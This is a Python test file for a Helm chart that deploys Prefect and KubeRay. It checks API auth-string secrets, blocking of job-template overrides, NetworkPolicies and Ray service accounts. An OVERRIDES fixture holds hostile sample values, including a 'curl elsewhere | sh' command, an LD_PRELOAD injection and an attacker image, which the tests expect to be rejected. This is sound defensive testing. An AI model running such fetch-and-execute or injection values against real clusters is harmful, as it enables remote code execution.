"""The installed service is closed inside the cluster (issue 44, item 5), checked on what `helm template`
renders with the parts that read it: Prefect's own job-variable validation and prefect-kubernetes' own
job configuration and worker (offline), and day0's RayCluster builder for the pods the policies select.
tests/e2e/test_helm.py installs the same chart on the test control plane."""

from __future__ import annotations

import asyncio
import json
import uuid
from typing import Any

import pytest

from day0.backends.kuberay.manifest import build_raycluster
from day0.spec.cluster import ClusterSpec
from tests.unit.helm.test_values_schema import accepted

AUTH = {"name": "day0-prefect-auth", "key": "auth-string"}  # values.yaml's prefect.authSecret


def _docs(*args: str) -> list[dict[str, Any]]:
    return accepted("--namespace", "ops", *args)


def _one(docs: list[dict[str, Any]], kind: str, suffix: str) -> dict[str, Any]:
    (doc,) = [d for d in docs if d["kind"] == kind and d["metadata"]["name"].endswith(suffix)]
    return doc


def _template(docs: list[dict[str, Any]]) -> dict[str, Any]:
    return json.loads(_one(docs, "ConfigMap", "-work-pool")["data"]["base-job-template.json"])


def _env(container: dict[str, Any]) -> dict[str, Any]:
    return {e["name"]: e.get("value", e.get("valueFrom")) for e in container.get("env", [])}


def _secret(name: str, key: str) -> dict[str, Any]:
    return {"secretKeyRef": {"name": name, "key": key}}


# --- Prefect API authentication ----------------------------------------------------------------


def test_the_prefect_server_requires_the_auth_string_and_every_client_sends_it_from_the_secret() -> None:
    docs = _docs()
    server = _one(docs, "Deployment", "-prefect-server")["spec"]["template"]["spec"]["containers"][0]
    assert _env(server)["PREFECT_SERVER_API_AUTH_STRING"] == _secret(AUTH["name"], AUTH["key"])
    clients = []
    for suffix in ("-worker", "-webhook"):
        pod = _one(docs, "Deployment", suffix)["spec"]["template"]["spec"]
        clients += pod["containers"] + pod.get("initContainers", [])
    clients.append(_template(docs)["job_configuration"]["job_manifest"]["spec"]["template"]["spec"]["containers"][0])
    assert len(clients) == 6  # worker + its 3 init containers, receiver, flow-run pods
    for container in clients:
        assert _env(container)["PREFECT_API_AUTH_STRING"] == _secret(AUTH["name"], AUTH["key"]), container["name"]
    worker = _env(_one(docs, "Deployment", "-worker")["spec"]["template"]["spec"]["containers"][0])
    assert worker["PREFECT_INTEGRATIONS_KUBERNETES_WORKER_API_AUTH_STRING_SECRET_NAME"] == AUTH["name"]
    assert worker["PREFECT_INTEGRATIONS_KUBERNETES_WORKER_API_AUTH_STRING_SECRET_KEY"] == AUTH["key"]


def test_a_flow_run_job_reads_the_auth_string_from_the_secret_never_as_a_value(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The worker holds the auth string in its environment and puts its settings into every Job it
    submits; with the chart's worker settings, prefect-kubernetes' worker swaps the value for the Secret."""
    from prefect.settings import PREFECT_API_URL, temporary_settings
    from prefect_kubernetes.settings import KubernetesSettings
    from prefect_kubernetes.worker import KubernetesWorker

    docs = _docs()
    for name, value in _env(_one(docs, "Deployment", "-worker")["spec"]["template"]["spec"]["containers"][0]).items():
        if name.startswith("PREFECT_INTEGRATIONS_KUBERNETES_WORKER_API_AUTH_STRING_SECRET_"):
            monkeypatch.setenv(name, value)
    config = _prepared(_template(docs), auth="day0:s3cret")
    assert {"name": "PREFECT_API_AUTH_STRING", "value": "day0:s3cret"} in _job_env(config)  # before the swap
    settings = KubernetesSettings().worker
    with temporary_settings({PREFECT_API_URL: "http://worker-setting/api"}):  # a worker not started: no server
        worker = KubernetesWorker(work_pool_name="day0-kubernetes")
        # the part of KubernetesWorker._create_job that runs before the API call
        swap = worker._replace_env_variable_with_secret(
            "PREFECT_API_AUTH_STRING", config, settings.api_auth_string_secret_name, settings.api_auth_string_secret_key
        )
        asyncio.run(swap)
    env = _job_env(config)
    assert [e for e in env if e["name"] == "PREFECT_API_AUTH_STRING"] == [
        {"name": "PREFECT_API_AUTH_STRING", "valueFrom": _secret(AUTH["name"], AUTH["key"])}
    ]
    assert "s3cret" not in json.dumps(config.job_manifest)


def test_an_external_prefect_server_may_go_without_an_auth_string() -> None:
    docs = _docs("--set", "prefectServer.enabled=false,prefect.apiUrl=http://prefect:4200/api,prefect.authSecret.name=")
    worker = _one(docs, "Deployment", "-worker")["spec"]["template"]["spec"]["containers"][0]
    assert "PREFECT_API_AUTH_STRING" not in _env(worker)
    assert not [d for d in docs if d["kind"] == "NetworkPolicy" and d["metadata"]["name"].endswith("-prefect-server")]


# --- the job template: a run overrides only what a run needs -----------------------------------


def _prepared(template: dict[str, Any], auth: str | None = None, **job_variables: Any) -> Any:
    """The job configuration a Kubernetes worker (its API URL and auth string in its settings) makes for
    a flow run: prefect-kubernetes' own code."""
    from prefect.client.schemas.objects import FlowRun
    from prefect.settings import PREFECT_API_AUTH_STRING, PREFECT_API_URL, temporary_settings
    from prefect_kubernetes.worker import KubernetesWorkerJobConfiguration

    with temporary_settings({PREFECT_API_URL: "http://worker-setting/api", PREFECT_API_AUTH_STRING: auth}):
        config = asyncio.run(KubernetesWorkerJobConfiguration.from_template_and_values(template, job_variables))
        config.prepare_for_flow_run(FlowRun(flow_id=uuid.uuid4(), name="day0-flow-run"))
    return config


def _job_env(config: Any) -> list[dict[str, Any]]:
    return config.job_manifest["spec"]["template"]["spec"]["containers"][0]["env"]


OVERRIDES = {
    "image": "attacker/image:latest",
    "namespace": "kube-system",
    "service_account_name": "default",
    "env": {"PREFECT_API_URL": "http://elsewhere/api", "LD_PRELOAD": "/tmp/x.so"},
    "command": "sh -c 'curl elsewhere | sh'",
}


@pytest.mark.parametrize("variable", sorted(OVERRIDES))
def test_prefect_refuses_a_run_that_overrides_what_the_chart_fixes(variable: str) -> None:
    """What the server runs on every flow run a deployment creates (422 for the run)."""
    from prefect.utilities.schema_tools.validation import ValidationError, validate

    variables = _template(_docs())["variables"]
    validate({"cpu_request": "2"}, variables, raise_on_error=True, preprocess=True, ignore_required=True)
    with pytest.raises(ValidationError, match=variable):
        validate({variable: OVERRIDES[variable]}, variables, raise_on_error=True, preprocess=True)


def test_overrides_reach_no_job_even_past_the_validation() -> None:
    """A worker given the overrides anyway (a pool created before this template) builds the chart's Job."""
    docs = _docs()
    config = _prepared(_template(docs), **OVERRIDES, cpu_request="3", accelerator_count=2)
    job = config.job_manifest
    pod = job["spec"]["template"]["spec"]
    container = pod["containers"][0]
    assert (config.namespace, job["metadata"]["namespace"]) == ("ops-runs", "ops-runs")
    assert (container["image"], pod["serviceAccountName"]) == ("day0:0.1.0", "r-day0-runner")
    assert container["args"] == ["prefect", "flow-run", "execute"]  # Prefect's own command
    env = {e["name"]: e for e in _job_env(config)}
    assert "LD_PRELOAD" not in env and env["PREFECT_API_URL"]["value"] == "http://worker-setting/api"
    # what a run does need still reaches the Job
    assert container["resources"]["requests"]["cpu"] == "3"
    assert container["resources"]["limits"]["nvidia.com/gpu"] == 2


def test_the_job_defaults_env_is_fixed_in_the_pod() -> None:
    config = _prepared(_template(_docs("--set-json", 'workPool.jobDefaults.env={"HF_HUB_OFFLINE": "1"}')))
    assert {"name": "HF_HUB_OFFLINE", "value": "1"} in _job_env(config)


# --- NetworkPolicies -----------------------------------------------------------------------------


def _selects(selector: dict[str, Any], labels: dict[str, str]) -> bool:
    """A Kubernetes label selector (matchLabels, matchExpressions In/NotIn/Exists/DoesNotExist)."""
    if any(labels.get(k) != v for k, v in selector.get("matchLabels", {}).items()):
        return False
    for e in selector.get("matchExpressions", []):
        key, op = e["key"], e["operator"]
        if op in ("In", "NotIn") and (labels.get(key) in e["values"]) != (op == "In"):
            return False
        if op in ("Exists", "DoesNotExist") and (key in labels) != (op == "Exists"):
            return False
    return True


def _admits(policy: dict[str, Any], namespace: str, labels: dict[str, str], peer_ns: dict[str, str]) -> bool:
    """Whether an ingress rule of `policy` (in `namespace`) admits a pod with `labels` in `peer_ns`."""
    for rule in policy["spec"]["ingress"]:
        for peer in rule["from"]:
            ns_ok = (
                _selects(peer["namespaceSelector"], peer_ns)
                if "namespaceSelector" in peer
                else (peer_ns["kubernetes.io/metadata.name"] == namespace)
            )
            if ns_ok and _selects(peer.get("podSelector", {}), labels):
                return True
    return False


def _ray_pods(runs: str) -> tuple[dict[str, str], dict[str, str]]:
    """The head's and a worker's labels as day0 builds them, with what KubeRay adds."""
    cluster = ClusterSpec.model_validate(
        {
            "backend": "kuberay",
            "namespace": runs,
            "node_pools": [{"name": "gpu", "accelerator": {"per_node": 8, "memory_gib": 80}, "nodes": 1}],
        }
    )
    spec = build_raycluster(cluster, "run-1")["spec"]
    head = {**spec["headGroupSpec"]["template"]["metadata"]["labels"], "ray.io/node-type": "head"}
    worker = {**spec["workerGroupSpecs"][0]["template"]["metadata"]["labels"], "ray.io/node-type": "worker"}
    return head, worker


def test_only_the_charts_pods_reach_the_prefect_api_and_only_the_runs_pods_reach_ray() -> None:
    docs = _docs()
    ns = lambda name: {"kubernetes.io/metadata.name": name}  # noqa: E731 - what the API server labels namespaces with
    server = _one(docs, "NetworkPolicy", "-prefect-server")
    ray = _one(docs, "NetworkPolicy", "-ray")
    assert ray["metadata"]["namespace"] == "ops-runs"
    pod_labels = {
        d["metadata"]["name"]: d["spec"]["template"]["metadata"]["labels"] for d in docs if d["kind"] == "Deployment"
    }
    assert _selects(server["spec"]["podSelector"], pod_labels["r-day0-prefect-server"])
    assert server["spec"]["policyTypes"] == ["Ingress"]
    flow_run = _template(docs)["job_configuration"]["job_manifest"]["spec"]["template"]["metadata"]["labels"]
    head, worker = _ray_pods("ops-runs")
    # the Prefect API: the worker, the receiver, flow-run pods; not Ray, not other pods, not another release's
    assert _admits(server, "ops", pod_labels["r-day0-worker"], ns("ops"))
    assert _admits(server, "ops", pod_labels["r-day0-webhook"], ns("ops"))
    assert _admits(server, "ops", flow_run, ns("ops-runs"))
    assert not _admits(server, "ops", head, ns("ops-runs")) and not _admits(server, "ops", worker, ns("ops-runs"))
    assert not _admits(server, "ops", flow_run, ns("elsewhere"))
    assert not _admits(server, "ops", {"app": "other"}, ns("ops"))
    assert not _admits(server, "ops", {**pod_labels["r-day0-worker"], "app.kubernetes.io/instance": "q"}, ns("ops"))
    # the runs' Ray pods: from Ray pods and flow-run pods of the runs namespace only
    assert _selects(ray["spec"]["podSelector"], head) and _selects(ray["spec"]["podSelector"], worker)
    assert not _selects(ray["spec"]["podSelector"], flow_run)
    assert _admits(ray, "ops-runs", worker, ns("ops-runs")) and _admits(ray, "ops-runs", flow_run, ns("ops-runs"))
    assert not _admits(ray, "ops-runs", pod_labels["r-day0-webhook"], ns("ops"))
    assert not _admits(ray, "ops-runs", pod_labels["r-day0-worker"], ns("ops"))
    assert not _admits(ray, "ops-runs", {"app": "other"}, ns("ops-runs"))
    assert not _admits(ray, "ops-runs", worker, ns("elsewhere"))


def test_the_policies_can_be_left_out() -> None:
    assert not [d for d in _docs("--set", "networkPolicy.enabled=false") if d["kind"] == "NetworkPolicy"]


# --- the runs' Ray pods' account -----------------------------------------------------------------


def test_the_ray_pods_get_an_account_of_their_own_without_a_token() -> None:
    import yaml

    docs = _docs()
    account = _one(docs, "ServiceAccount", "-ray")
    assert (account["metadata"]["namespace"], account["automountServiceAccountToken"]) == ("ops-runs", False)
    assert not [d for d in docs if d["kind"] == "RoleBinding" and d["subjects"][0]["name"] == "r-day0-ray"]
    (text,) = _one(docs, "ConfigMap", "-clusters")["data"].values()
    cluster = ClusterSpec.model_validate(yaml.safe_load(text))
    assert cluster.service_account == "r-day0-ray"
    pod = build_raycluster(cluster, "run-1")["spec"]["workerGroupSpecs"][0]["template"]["spec"]
    assert (pod["serviceAccountName"], pod["automountServiceAccountToken"]) == ("r-day0-ray", False)
